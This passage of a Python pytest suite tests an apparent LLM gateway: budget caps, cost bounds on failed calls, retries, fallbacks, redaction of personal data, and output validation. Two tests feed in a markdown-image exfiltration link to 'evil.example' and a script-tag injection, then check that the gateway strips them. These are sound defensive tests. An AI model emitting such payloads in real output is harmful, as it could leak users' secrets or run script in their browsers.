"""The gateway's promises, one by one, on a real ledger: docs/checklist.md tells which is which."""

import asyncio
import json
import re
import sqlite3
import time
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any, cast

import pytest
from pydantic import BaseModel, Field, SecretStr
from pydantic_ai import Agent
from pydantic_ai.messages import BinaryContent, InstructionPart, ModelRequest, ModelResponse
from pydantic_ai.models import ModelRequestParameters
from pydantic_ai.models.test import TestModel
from pydantic_ai.models.wrapper import WrapperModel
from pydantic_ai.settings import ModelSettings
from pydantic_ai.usage import RequestUsage
from structlog.testing import capture_logs

from ai_base.llm.errors import (
    AllCandidatesFailedError,
    AttemptFailedError,
    AwaitingHumanError,
    BudgetExceededError,
    CallLimitError,
    ConfigError,
    DeadlineExceededError,
    InputTooLargeError,
    PromptVariableError,
    RejectedRequestError,
    UnpricedModelError,
)
from ai_base.llm.gateway.gateway import Gateway
from ai_base.llm.interaction import attributed_to
from ai_base.llm.ledger.audit import differences
from ai_base.logging import correlation
from ai_base.testing.doubles import EchoModel, RuleModel, ScriptedModel, Step
from ai_base.testing.faults import (
    FaultyModel,
    bad_request,
    invalid_json,
    rate_limited,
    refused,
    reset,
    retired_model,
    revoked_key,
    server_error,
    slow,
    timed_out,
    truncated,
    wrong_schema,
)


class Verdict(BaseModel):
    category: str
    confidence: float = Field(ge=0, le=1)


SURE = {"category": "bug", "confidence": 0.9}
UNSURE = {"category": "bug", "confidence": 0.2}
ASK = ("plain", {"question": "Why?"})


def usage(tokens: int) -> RequestUsage:
    return RequestUsage(input_tokens=tokens, output_tokens=tokens)


def answered(text: str, tokens: int = 100) -> Step:
    return Step(text, usage=usage(tokens))


# ---- The answer and its record ----


async def test_an_answer_tells_what_it_is(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(answered("Because."))) as gateway:
        answer = await gateway.ask(*ASK)

    assert (answer.output, answer.source, answer.calls) == ("Because.", "model", 1)
    assert answer.cost == Decimal("0.0003")  # 100 tokens at $1 and 100 at $2 per million


async def test_every_interaction_and_attempt_is_a_row(open_gateway: Any) -> None:
    model = FaultyModel(ScriptedModel(answered("Because.")), server_error())
    async with open_gateway(main=model) as gateway:
        with attributed_to(cost_center="support", user="ada"), correlation("request-1"):
            answer = await gateway.ask(*ASK)
        row, attempts = await gateway.ledger.interaction(answer.interaction_id)

    told = (
        row.prompt,
        row.request,
        row.response,
        row.source,
        row.status,
        row.cost_center,
        row.user,
        row.correlation_id,
    )
    assert told == ("plain", "Why?", "Because.", "model", "ok", "support", "ada", "request-1")
    assert (row.calls, row.cost, len(row.prompt_version)) == (2, 300_000, 12)
    assert [(a.number, a.status, a.cost, a.cost_basis) for a in attempts] == [
        (1, "failed", 0, "none"),
        (2, "ok", 300_000, "reported"),
    ]
    assert "ModelServerError" in attempts[0].error
    assert (attempts[1].input_tokens, attempts[1].output_tokens, attempts[1].candidate) == (100, 100, "main")
    assert attempts[1].latency_ms > 0


async def test_a_failed_interaction_is_a_row_too(open_gateway: Any) -> None:
    async with open_gateway(main=FaultyModel(EchoModel(), bad_request())) as gateway:
        with pytest.raises(RejectedRequestError):
            await gateway.ask(*ASK)
        [row] = await gateway.ledger.interactions(10)

    assert (row.status, row.calls, row.source) == ("failed", 1, "")
    assert "RejectedRequestError" in row.error


async def test_one_line_is_logged_for_each(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(answered("Because."))) as gateway:
        with capture_logs() as logs:
            await gateway.ask(*ASK)

    assert [line["event"] for line in logs] == ["llm attempt", "llm interaction"]
    assert {"queue_ms", "breaker", "latency_ms", "cost", "number"} <= set(logs[0])


# ---- 1. Spend never passes a cap ----


async def test_concurrent_calls_never_pass_a_cap(open_gateway: Any, database_url: str) -> None:
    """A thousand calls at once against a cap of one dollar."""
    cost = 200 * 1_000 + 1000 * 2_000  # nanodollars; nearly all that each may cost
    model = RuleModel({".*": Step("x", usage=RequestUsage(input_tokens=200, output_tokens=1000))})
    settings = {
        "budgets": {"overall": {"day": "1"}},
        "candidates": {"main": {"timeout": 600}},  # long enough for any machine
        "retry": {"deadline": 600},
        "cache": {"stale": 0},
    }
    async with open_gateway(main=model, database_url=database_url, **settings) as gateway:
        outcomes = await asyncio.gather(*(gateway.ask(*ASK) for _ in range(1000)), return_exceptions=True)
        [row] = await gateway.ledger.spend("day")
        assert await differences(gateway.ledger) == []

    answers = [outcome for outcome in outcomes if not isinstance(outcome, BaseException)]
    assert {type(outcome) for outcome in outcomes if isinstance(outcome, BaseException)} == {BudgetExceededError}
    assert row.calls == len(answers)
    assert row.cost == len(answers) * cost == sum(answer.cost for answer in answers) * 10**9
    assert 10**9 - 2 * cost < row.cost <= 10**9


@pytest.mark.parametrize(
    ("budgets", "scope"),
    [
        ({"overall": {"hour": "0.003"}}, "overall, hour"),
        ({"overall": {"day": "0.003"}}, "overall, day"),
        ({"overall": {"month": "0.003"}}, "overall, month"),
        ({"cost_centers": {"support": {"day": "0.003"}}}, "cost center support, day"),
        ({"each_cost_center": {"day": "0.003"}}, "cost center support, day"),
    ],
)
async def test_a_refusal_names_the_cap_what_is_spent_and_what_was_asked(
    open_gateway: Any, budgets: dict[str, Any], scope: str
) -> None:
    model = ScriptedModel(answered("x", 900))
    async with open_gateway(main=model, budgets=budgets) as gateway:
        await gateway.ask(*ASK, cost_center="support")
        with pytest.raises(BudgetExceededError) as error:
            await gateway.ask(*ASK, cost_center="support")
        refused_row = (await gateway.ledger.interactions(1))[0]

    assert error.value.scope.startswith(scope)
    assert (error.value.cap, error.value.spent) == (Decimal("0.003"), Decimal("0.0027"))
    assert error.value.held == 0
    assert error.value.asked > Decimal("0.002")
    assert (refused_row.status, refused_row.cost, refused_row.calls) == ("refused", 0, 0)


async def test_one_cost_centre_does_not_spend_another_ones_budget(open_gateway: Any) -> None:
    model = RuleModel({".*": answered("x", 900)})
    async with open_gateway(main=model, budgets={"each_cost_center": {"day": "0.003"}}) as gateway:
        await gateway.ask(*ASK, cost_center="support")
        with pytest.raises(BudgetExceededError):
            await gateway.ask(*ASK, cost_center="support")

        assert (await gateway.ask(*ASK, cost_center="sales")).output == "x"


async def test_a_cap_that_is_set_later_holds_against_what_was_spent_before(open_gateway: Any) -> None:
    model = ScriptedModel(answered("x", 900))
    async with open_gateway(main=model) as gateway:
        await gateway.ask(*ASK)
    async with open_gateway(main=model, budgets={"overall": {"day": "0.003"}}) as gateway:
        with pytest.raises(BudgetExceededError):
            await gateway.ask(*ASK)


async def test_an_interaction_makes_no_more_calls_than_it_may(open_gateway: Any) -> None:
    """The interaction that made 47 calls."""
    async with open_gateway(
        main=FaultyModel(EchoModel(), server_error(), forever=True),
        retry={"attempts": 47},
        breaker={"failures": 100},
        budgets={"interaction": {"calls": 8}},
    ) as gateway:
        with pytest.raises(CallLimitError, match="8 calls of 8"):
            await gateway.ask(*ASK)
        [row] = await gateway.ledger.interactions(1)
    assert row.calls == 8


async def test_an_interaction_costs_no_more_than_it_may(open_gateway: Any) -> None:
    model = ScriptedModel(answered("1", 900), answered("2", 900))
    async with open_gateway(main=model, budgets={"interaction": {"dollars": "0.006"}}) as gateway:
        async with gateway.interaction("conversation") as call:
            agent = Agent(gateway.model())
            await agent.run("one")
            await agent.run("two")
            with pytest.raises(BudgetExceededError, match="budget interaction"):
                await agent.run("three")
        row, attempts = await gateway.ledger.interaction(call.row.id)

    assert (row.calls, row.cost, len(attempts)) == (2, 5_400_000, 2)


@pytest.mark.parametrize("fault", [timed_out(), reset()])
async def test_a_failure_that_the_provider_may_have_charged_costs_its_bound(open_gateway: Any, fault: Any) -> None:
    model = FaultyModel(ScriptedModel(answered("x")), fault)
    async with open_gateway(main=model) as gateway:
        answer = await gateway.ask(*ASK)
        _, [first, second] = await gateway.ledger.interaction(answer.interaction_id)

    assert (first.cost, first.cost_basis) == (first.reserved, "assumed")
    assert (second.cost, second.cost_basis) == (300_000, "reported")


@pytest.mark.parametrize("fault", [server_error(), refused(), rate_limited(0)])
async def test_a_failure_that_the_provider_cannot_have_charged_is_free(open_gateway: Any, fault: Any) -> None:
    async with open_gateway(main=FaultyModel(ScriptedModel(answered("x")), fault)) as gateway:
        answer = await gateway.ask(*ASK)

    assert (answer.calls, answer.cost) == (2, Decimal("0.0003"))


async def test_a_call_that_is_cancelled_costs_its_bound(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(Step("x", delay=5))) as gateway:
        task = asyncio.create_task(gateway.ask(*ASK))
        await asyncio.sleep(0.05)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        [row] = await gateway.ledger.interactions(1)
        _, [attempt] = await gateway.ledger.interaction(row.id)
        assert await differences(gateway.ledger) == []

    assert (attempt.status, attempt.cost_basis, attempt.cost) == ("abandoned", "assumed", attempt.reserved)
    assert row.cost == attempt.cost > 0


@pytest.mark.parametrize("tokens", [0, -1_000_000])
async def test_an_answer_without_a_credible_token_count_costs_its_bound(open_gateway: Any, tokens: int) -> None:
    async with open_gateway(main=Odd(lambda response: replace(response, usage=usage(tokens)))) as gateway:
        answer = await gateway.ask(*ASK)
        _, [attempt] = await gateway.ledger.interaction(answer.interaction_id)
        assert await differences(gateway.ledger) == []

    assert (attempt.cost_basis, attempt.cost) == ("assumed", attempt.reserved)


@pytest.mark.parametrize("asked", [-5, 0, 10**12])
async def test_a_strange_output_limit_lowers_no_bound(open_gateway: Any, asked: int) -> None:
    async with open_gateway(main=ScriptedModel(answered("x"))) as gateway:
        await Agent(gateway.model()).run("hello", model_settings={"max_tokens": asked})
        [row] = await gateway.ledger.interactions(1)
        [attempt] = (await gateway.ledger.interaction(row.id))[1]

    assert 0 < attempt.cost <= attempt.reserved <= 2_500_000


async def test_the_bound_covers_instructions_tools_and_history(open_gateway: Any) -> None:
    def shout(text: str) -> str:
        """Say it loudly."""
        return text.upper()

    model = RuleModel({".*": answered("x")})
    async with open_gateway(main=model) as gateway:
        small, large = Agent(gateway.model()), Agent(gateway.model(), tools=[shout], instructions="i" * 5000)
        first = await small.run("question")
        await large.run("question", message_history=first.all_messages())
        rows = await gateway.ledger.interactions(2)
        bounds = [(await gateway.ledger.interaction(row.id))[1][0].reserved for row in rows]

    assert bounds[0] - bounds[1] > 5_000 * 1_000  # nanodollars: a token costs at least 1000


# ---- 2. No price, no call ----


@pytest.mark.parametrize("settings", [{"extra_body": {"n": 5}}, {"openai_service_tier": "priority"}])
async def test_settings_that_make_a_call_dearer_are_refused(open_gateway: Any, settings: dict[str, Any]) -> None:
    async with open_gateway(main=ScriptedModel()) as gateway:
        with pytest.raises(UnpricedModelError, match="no bound on its cost"):
            await Agent(gateway.model()).run("hello", model_settings=cast("ModelSettings", settings))


async def test_a_picture_is_refused_unless_the_context_window_bounds_it(open_gateway: Any) -> None:
    picture: list[str | BinaryContent] = ["What is this?", BinaryContent(b"tiny", media_type="image/png")]
    async with open_gateway(main=ScriptedModel(answered("a cat"))) as gateway:
        with pytest.raises(UnpricedModelError, match="context_window"):
            await Agent(gateway.model()).run(picture)
    bounded = {"main": {"context_window": 128_000}}
    async with open_gateway(main=ScriptedModel(answered("a cat")), candidates=bounded) as gateway:
        await Agent(gateway.model()).run(picture)
        [row] = await gateway.ledger.interactions(1)

        assert (await gateway.ledger.interaction(row.id))[1][0].reserved == 128_000_000 + 2_000_000


@pytest.mark.parametrize("way", ["compact_messages", "batch_create"])
async def test_ways_around_the_budget_are_closed(open_gateway: Any, way: str) -> None:
    async with open_gateway(main=ScriptedModel()) as gateway:
        guard = gateway.model().models[0]
        with pytest.raises(UnpricedModelError, match="passes by the budget"):
            await getattr(guard, way)([])


# ---- 3. Attempts are bounded and counted once ----


async def test_transient_failures_are_retried_then_the_next_candidate_is_asked(open_gateway: Any) -> None:
    primary = FaultyModel(EchoModel(), server_error(), forever=True)
    async with open_gateway(main=primary, backup=ScriptedModel(answered("here"))) as gateway:
        answer = await gateway.ask(*ASK)
        _, attempts = await gateway.ledger.interaction(answer.interaction_id)

    assert answer.output == "here"
    assert [attempt.candidate for attempt in attempts] == ["main", "main", "backup"]


async def test_retry_after_is_obeyed(open_gateway: Any) -> None:
    loop = asyncio.get_running_loop()
    async with open_gateway(main=FaultyModel(ScriptedModel(answered("x")), rate_limited(retry_after=0.3))) as gateway:
        start = loop.time()
        await gateway.ask(*ASK)

        assert loop.time() - start >= 0.3


async def test_a_retry_that_would_come_too_late_is_left_out(open_gateway: Any) -> None:
    primary = FaultyModel(EchoModel(), rate_limited(retry_after=60))
    async with open_gateway(main=primary, backup=ScriptedModel(answered("x"))) as gateway:
        answer = await gateway.ask(*ASK)

    assert (answer.output, answer.calls) == ("x", 2)


@pytest.mark.parametrize("fault", [revoked_key(), retired_model()])
async def test_a_misconfigured_candidate_is_asked_once_and_taken_out(open_gateway: Any, fault: Any) -> None:
    primary = FaultyModel(EchoModel(), fault, forever=True)
    async with open_gateway(main=primary, backup=RuleModel({".*": answered("x")})) as gateway:
        with capture_logs() as logs:
            answers = [await gateway.ask(*ASK) for _ in range(5)]

    assert [answer.calls for answer in answers] == [2, 1, 1, 1, 1]
    errors = [line for line in logs if line["log_level"] == "error"]
    assert [(line["event"], line["candidate"]) for line in errors] == [
        ("llm candidate taken out: mend its configuration", "main")
    ]


async def test_a_missing_key_takes_only_its_candidate_out(open_gateway: Any) -> None:
    keyed = {"main": {"api_key_env": "NO_SUCH_KEY"}}
    with capture_logs() as logs:
        async with open_gateway(backup=ScriptedModel(answered("x")), candidates=keyed) as gateway:
            answer = await gateway.ask(*ASK)

    assert (answer.output, answer.calls) == ("x", 1)
    assert any("NO_SUCH_KEY: not set" in line.get("error", "") for line in logs if line["log_level"] == "error")


async def test_a_broken_request_surfaces_at_once(open_gateway: Any) -> None:
    async with open_gateway(main=FaultyModel(EchoModel(), bad_request()), backup=ScriptedModel()) as gateway:
        with pytest.raises(RejectedRequestError, match="main: "):
            await gateway.ask(*ASK, fallback=lambda: "never")


# ---- 5. A candidate that is down costs nothing ----


async def test_after_a_few_failures_a_candidate_is_left_alone(open_gateway: Any) -> None:
    primary = FaultyModel(EchoModel(), server_error(), forever=True)
    async with open_gateway(main=primary, backup=RuleModel({".*": answered("x")}), breaker={"failures": 3}) as gateway:
        answers = [await gateway.ask(*ASK) for _ in range(20)]

    assert sum(answer.calls for answer in answers) == 20 + 3


async def test_one_probe_finds_out_that_it_is_back(open_gateway: Any) -> None:
    primary = FaultyModel(RuleModel({".*": answered("back")}), server_error(), server_error())
    settings = {"failures": 2, "pause": 300}
    async with open_gateway(main=primary, backup=RuleModel({".*": answered("x")}), breaker=settings) as gateway:
        first = await gateway.ask(*ASK)
        during = await gateway.ask(*ASK)
        breaker = gateway.model().models[0].breaker
        breaker.clock = lambda: time.monotonic() + 301
        outcomes = await asyncio.gather(*(gateway.ask(*ASK) for _ in range(10)))

    assert (first.output, during.output) == ("x", "x")
    # The others of the first moment were not held up by the probe.
    assert [answer.output for answer in outcomes] == ["back"] + ["x"] * 9


# ---- 6. There is always an answer or a clear error ----


async def test_when_all_candidates_are_down_a_stale_answer_serves(open_gateway: Any) -> None:
    model = FaultyModel(ScriptedModel(answered("Because.")), None, *[server_error()] * 9)
    async with open_gateway(main=model, backup=FaultyModel(EchoModel(), server_error(), forever=True)) as gateway:
        await gateway.ask(*ASK)
        answer = await gateway.ask(*ASK, fallback=lambda: "never")
        row, _ = await gateway.ledger.interaction(answer.interaction_id)

    assert (answer.output, answer.source, row.source) == ("Because.", "cache", "cache")
    assert answer.reason.startswith("AllCandidatesFailedError")


async def test_without_a_stale_answer_the_callers_simple_answer_serves(open_gateway: Any) -> None:
    down = FaultyModel(EchoModel(), server_error(), forever=True)
    async with open_gateway(main=down, backup=down) as gateway:
        answer = await gateway.ask(*ASK, fallback=lambda: "We will call you back.")

    assert (answer.output, answer.source) == ("We will call you back.", "fallback")


async def test_a_question_can_wait_for_a_person(open_gateway: Any) -> None:
    down = FaultyModel(EchoModel(), server_error(), forever=True)
    async with open_gateway(main=down, backup=down) as gateway:
        with pytest.raises(AwaitingHumanError) as waiting:
            await gateway.ask(*ASK, human=True)
        with pytest.raises(AwaitingHumanError) as again:
            await gateway.ask(*ASK, human=True)
        assert again.value.escalation_id == waiting.value.escalation_id

        await gateway.ledger.answer(waiting.value.escalation_id, "Ask again tomorrow.", "ada")
        answer = await gateway.ask(*ASK, human=True)

    assert (answer.output, answer.source) == ("Ask again tomorrow.", "human")


async def test_without_any_of_these_the_error_tells_of_every_candidate(open_gateway: Any) -> None:
    down = FaultyModel(EchoModel(), server_error(), forever=True)
    async with open_gateway(main=down, backup=down) as gateway:
        with pytest.raises(AllCandidatesFailedError, match=r"(?s)main: .*backup: "):
            await gateway.ask(*ASK)


async def test_a_refused_budget_falls_back_to_the_callers_simple_answer(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(), budgets={"overall": {"day": "0"}}) as gateway:
        answer = await gateway.ask(*ASK, fallback=lambda: "simple")

    assert (answer.output, answer.source) == ("simple", "fallback")
    assert answer.reason.startswith("BudgetExceededError")


async def test_no_interaction_outlives_its_deadline(open_gateway: Any) -> None:
    sleepy = RuleModel({".*": Step("x", delay=30)})
    loop = asyncio.get_running_loop()
    async with open_gateway(main=sleepy, backup=sleepy, retry={"deadline": 0.3}) as gateway:
        start = loop.time()
        with pytest.raises(DeadlineExceededError, match=r"no answer within 0\.3 s"):
            await gateway.ask(*ASK)

        assert loop.time() - start < 2


async def test_a_slow_candidate_is_given_up_after_its_time_out(open_gateway: Any) -> None:
    sleepy = RuleModel({".*": Step("x", delay=30)})
    quick = {"main": {"timeout": 0.05}}
    async with open_gateway(main=sleepy, backup=ScriptedModel(answered("y")), candidates=quick) as gateway:
        answer = await gateway.ask(*ASK)

    assert (answer.output, answer.calls) == ("y", 3)


# ---- 7. Configuration is live ----


async def test_an_edit_of_configuration_or_prompt_is_used_by_the_next_call(open_gateway: Any, prompts: Path) -> None:
    file = prompts.parent / "llm.toml"
    text = (
        "[candidates.a]\nmodel = 'offline:'\n[candidates.b]\nmodel = 'offline:'\n"
        "[chains]\ndefault = ['a']\n[budgets]\noverall = { day = '1' }\n"
    )
    file.write_text(text, encoding="utf-8")
    models = {"a": RuleModel({"(?s).*": answered("from a")}), "b": RuleModel({"(?s).*": answered("from b")})}
    async with open_gateway(config=file, **models) as gateway:
        first = await gateway.ask(*ASK)
        file.write_text(text.replace("['a']", "['b']"), encoding="utf-8")
        second = await gateway.ask(*ASK)
        file.write_text(text.replace("['a']", "['c']"), encoding="utf-8")
        with capture_logs() as logs:
            third = await gateway.ask(*ASK)
        version = (await gateway.ledger.interaction(third.interaction_id))[0].prompt_version
        (prompts / "plain.md").write_text("Edited.", encoding="utf-8")
        edited = await gateway.ask("plain", {})
        row, _ = await gateway.ledger.interaction(edited.interaction_id)

    assert [first.output, second.output, third.output] == ["from a", "from b", "from b"]
    [refusal] = [line for line in logs if line["log_level"] == "error"]
    assert refusal["where"] == f"{file}:6"
    assert row.request == "Edited."
    assert row.prompt_version != version


async def test_an_agents_model_follows_the_configuration_too(open_gateway: Any, prompts: Path) -> None:
    file = prompts.parent / "llm.toml"
    text = "[candidates.a]\nmodel='offline:'\n[candidates.b]\nmodel='offline:'\n[chains]\ndefault=['a']\n[budgets]\nunlimited=true\n"
    file.write_text(text, encoding="utf-8")
    models = {"a": RuleModel({".*": answered("from a")}), "b": RuleModel({".*": answered("from b")})}
    async with open_gateway(config=file, **models) as gateway:
        agent = Agent(gateway.model())
        first = await agent.run("hello")
        file.write_text(text.replace("['a']", "['b']"), encoding="utf-8")
        second = await agent.run("hello")

    assert (first.output, second.output) == ("from a", "from b")


# ---- 8. Nothing personal leaks ----


async def test_ledger_and_log_hold_no_personal_data(open_gateway: Any) -> None:
    address = "bob@example.com"
    model = FaultyModel(RuleModel({".*": answered(f"Write to {address}")}), server_error())
    async with open_gateway(main=model) as gateway:
        with capture_logs() as logs:
            answer = await gateway.ask("plain", {"question": f"I am {address}"})
        row, attempts = await gateway.ledger.interaction(answer.interaction_id)

        async with gateway.interaction(address, user=address):
            await Agent(gateway.model()).run(f"I am {address}")
        agents_row, _ = await gateway.ledger.interaction((await gateway.ledger.interactions(1))[0].id)

    assert (agents_row.request, agents_row.response) == ("I am [email]", "Write to [email]")
    assert address not in json.dumps(vars(agents_row))
    assert answer.output == f"Write to {address}"
    assert (row.request, row.response) == ("I am [email]", "Write to [email]")
    assert address not in json.dumps([*logs, *map(vars, attempts)], default=str)


async def test_an_answer_with_personal_data_is_not_cached(open_gateway: Any) -> None:
    model = RuleModel({".*": answered("Write to bob@example.com")})
    async with open_gateway(main=model, cache={"fresh": 60}) as gateway:
        answers = [await gateway.ask(*ASK) for _ in range(2)]

    assert [answer.source for answer in answers] == ["model", "model"]


@pytest.mark.parametrize(("send", "sent"), [(True, "I am bob@example.com"), (False, "I am [email]")])
async def test_whether_personal_data_leaves_is_a_setting(open_gateway: Any, sent: str, *, send: bool) -> None:
    model = RuleModel({".*": answered("x")})
    async with open_gateway(main=model, privacy={"send_personal_data": send}) as gateway:
        await gateway.ask("plain", {"question": "I am bob@example.com"})
        await Agent(gateway.model()).run("I am bob@example.com")

    assert model.prompts == [sent, sent]


# ---- 9. Output is validated or it is not returned ----


async def test_output_is_validated(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(SURE)) as gateway:
        answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    assert answer.output == Verdict(category="bug", confidence=0.9)
    assert answer.confidence == 0.9


@pytest.mark.parametrize("fault", [invalid_json("{"), wrong_schema(), truncated()])
async def test_invalid_output_is_repaired_once_and_the_repair_is_paid(open_gateway: Any, fault: Any) -> None:
    inner = ScriptedModel(Step(SURE, expect=re.compile("(?s)That answer cannot be used: .*Answer again")))
    with inner:
        async with open_gateway(main=FaultyModel(inner, fault)) as gateway:
            answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)
            row, attempts = await gateway.ledger.interaction(answer.interaction_id)

    assert answer.calls == 2
    assert row.cost == sum(attempt.cost for attempt in attempts)
    assert attempts[0].cost > 0


async def test_output_that_stays_invalid_goes_to_the_next_candidate(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel("nonsense", "nonsense"), backup=ScriptedModel(SURE)) as gateway:
        answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    assert (answer.output.category, answer.calls) == ("bug", 3)


async def test_output_that_nobody_gets_right_is_an_error(open_gateway: Any) -> None:
    bad = RuleModel({"(?s).*": "nonsense"})
    async with open_gateway(main=bad, backup=bad) as gateway:
        with pytest.raises(AllCandidatesFailedError, match="no JSON object found"):
            await gateway.ask("triage", {"question": "?"}, output_type=Verdict)


async def test_output_is_cleaned(open_gateway: Any) -> None:
    hostile = "![x](https://evil.example/?q=secret)\x07<script>alert(1)</script>"
    model = ScriptedModel(hostile, {"category": hostile, "confidence": 1})
    async with open_gateway(main=model) as gateway:
        text = await gateway.ask(*ASK)
        verdict = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    for output in (text.output, verdict.output.category):
        assert "![" not in output
        assert "<script" not in output
        assert "\x07" not in output


async def test_an_empty_answer_is_none(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(" ", "\n"), backup=ScriptedModel("here")) as gateway:
        assert (await gateway.ask(*ASK)).output == "here"


# ---- Confidence ----


async def test_low_confidence_asks_the_stronger_chain(open_gateway: Any) -> None:
    models = {"main": ScriptedModel(UNSURE), "strong": ScriptedModel(SURE)}
    async with open_gateway(**models, escalation={"chain": "strong"}) as gateway:
        answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    assert (answer.confidence, answer.source, answer.calls) == (0.9, "model", 2)


async def test_lasting_doubt_asks_a_person_whose_answer_serves_the_next_one(open_gateway: Any) -> None:
    models = {"main": RuleModel({"(?s).*": UNSURE}), "strong": RuleModel({"(?s).*": UNSURE})}
    async with open_gateway(**models, escalation={"chain": "strong"}) as gateway:
        draft = await gateway.ask("triage", {"question": "bob@example.com"}, output_type=Verdict)
        [waiting] = await gateway.ledger.escalations(open_only=True)
        await gateway.ledger.answer(waiting.id, json.dumps({"category": "billing", "confidence": 1}), "ada")
        answer = await gateway.ask("triage", {"question": "bob@example.com"}, output_type=Verdict)

    assert (draft.source, draft.output.category, draft.escalation_id) == ("human", "bug", waiting.id)
    assert (waiting.request, waiting.reason) == ("Triage: [email]", "confidence 0.2 is below 0.6")
    assert waiting.output_type.endswith(":Verdict")
    assert (answer.source, answer.output.category, answer.escalation_id) == ("human", "billing", None)


async def test_confidence_can_be_judged_by_the_caller(open_gateway: Any) -> None:
    models = {"main": ScriptedModel("I guess so"), "strong": ScriptedModel("Yes")}
    async with open_gateway(**models, escalation={"chain": "strong"}) as gateway:
        answer = await gateway.ask(*ASK, confidence=lambda text: 0.1 if "guess" in text else 1.0)

    assert (answer.output, answer.confidence) == ("Yes", 1.0)


async def test_where_the_stronger_chain_is_down_the_first_answer_stands(open_gateway: Any) -> None:
    models = {"main": ScriptedModel(UNSURE), "strong": FaultyModel(EchoModel(), server_error(), forever=True)}
    async with open_gateway(**models, escalation={"chain": "strong", "human": False}) as gateway:
        answer = await gateway.ask("triage", {"question": "?"}, output_type=Verdict)

    assert (answer.output.confidence, answer.source) == (0.2, "model")


# ---- Input and cache ----


async def test_a_novel_is_refused_before_any_money_is_spent(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(), input={"max_bytes": 1000}) as gateway:
        with pytest.raises(InputTooLargeError, match="5,000 bytes, more than 1,000"):
            await gateway.ask("plain", {"question": "x" * 5000}, fallback=lambda: "never")
        with pytest.raises(InputTooLargeError):
            await Agent(gateway.model()).run("x" * 5000)
        assert await gateway.ledger.spend("day") == []


async def test_a_novel_is_cut_if_so_configured(open_gateway: Any) -> None:
    model = ScriptedModel(answered("x"))
    async with open_gateway(main=model, input={"max_bytes": 1000, "too_long": "cut"}) as gateway:
        await gateway.ask("triage", {"question": "é" * 5000})

    [sent] = model.prompts
    assert sent.startswith("Triage: éééé")
    assert sent.endswith("[... cut: the rest was too long]")
    assert 990 < len(sent.encode()) <= 1000


async def test_a_missing_variable_is_an_error_before_any_money_is_spent(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel()) as gateway:
        with pytest.raises(PromptVariableError, match="missing: question"):
            await gateway.ask("plain", {})


async def test_a_fresh_answer_serves_again(open_gateway: Any) -> None:
    model = RuleModel({".*": answered("x")})
    async with open_gateway(main=model, cache={"fresh": 60}) as gateway:
        answers = [await gateway.ask(*ASK), await gateway.ask(*ASK), await gateway.ask("plain", {"question": "How?"})]

    assert [answer.source for answer in answers] == ["model", "cache", "model"]
    assert [answer.cost > 0 for answer in answers] == [True, False, True]


async def test_answers_are_not_cached_unless_asked_for(open_gateway: Any) -> None:
    async with open_gateway(main=RuleModel({".*": answered("x")})) as gateway:
        assert [(await gateway.ask(*ASK)).source for _ in range(2)] == ["model", "model"]


# ---- Streams, agents, scripts ----


async def drain(gateway: Gateway) -> list[str]:
    async with gateway.stream(*ASK, cost_center="support") as chunks:
        return [chunk async for chunk in chunks]


async def test_a_stream_is_guarded_cleaned_and_recorded(open_gateway: Any) -> None:
    text = "Look: ![x](https://evil.example/?q=1) and <script>alert(1)</script>."
    async with open_gateway(main=ScriptedModel(answered(text))) as gateway:
        received = await drain(gateway)
        [row] = await gateway.ledger.interactions(1)
        _, [attempt] = await gateway.ledger.interaction(row.id)

    whole = "".join(received)
    assert len(received) > 1
    assert "![" not in whole
    assert "<script" not in whole
    assert (row.response, row.status, row.source, row.cost_center, row.cost) == (
        whole,
        "ok",
        "model",
        "support",
        300_000,
    )
    assert (attempt.status, attempt.cost_basis) == ("ok", "reported")


async def test_a_stream_falls_back_before_its_first_text(open_gateway: Any) -> None:
    down = FaultyModel(EchoModel(), server_error(), forever=True)
    async with open_gateway(main=down, backup=ScriptedModel(answered("here"))) as gateway:
        assert await drain(gateway) == ["here"]
        [row] = await gateway.ledger.interactions(1)

    assert row.calls == 3


async def test_a_stream_is_held_to_the_budget(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(), budgets={"overall": {"day": "0.001"}}) as gateway:
        with pytest.raises(BudgetExceededError):
            await drain(gateway)


async def test_an_abandoned_stream_costs_its_bound(open_gateway: Any) -> None:
    async with open_gateway(main=ScriptedModel(answered("word " * 100))) as gateway:
        async with gateway.stream(*ASK) as chunks:
            async for _ in chunks:
                break
        [row] = await gateway.ledger.interactions(1)
        _, [attempt] = await gateway.ledger.interaction(row.id)
        assert await differences(gateway.ledger) == []

    assert (attempt.cost, attempt.cost_basis) == (attempt.reserved, "assumed")


async def test_a_stream_that_drips_ends_at_the_deadline(open_gateway: Any) -> None:
    model = FaultyModel(ScriptedModel(answered("word " * 100)), slow(20))
    loop = asyncio.get_running_loop()
    async with open_gateway(main=model, backup=model, retry={"deadline": 0.3}) as gateway:
        start = loop.time()
        with pytest.raises(DeadlineExceededError):
            await drain(gateway)
        assert loop.time() - start < 3


async def test_an_agents_calls_are_one_interaction(open_gateway: Any) -> None:
    agent_calls = TestModel(custom_output_text="done")
    async with open_gateway(main=agent_calls) as gateway:
        agent = Agent(gateway.model())

        @agent.tool_plain
        def look_up(word: str) -> str:
            return word

        async with gateway.interaction("agent", cost_center="research") as call:
            result = await agent.run("hello")
        row, attempts = await gateway.ledger.interaction(call.row.id)

    assert result.output == "done"
    assert (row.prompt, row.cost_center, row.calls, len(attempts)) == ("agent", "research", 2, 2)
    assert (row.request, row.response, row.model, row.source) == ("hello", "done", "test", "model")


async def test_questions_inside_an_interaction_are_held_to_its_caps_too(open_gateway: Any) -> None:
    model = RuleModel({".*": answered("x")})
    async with open_gateway(main=model, budgets={"interaction": {"calls": 3}}) as gateway:
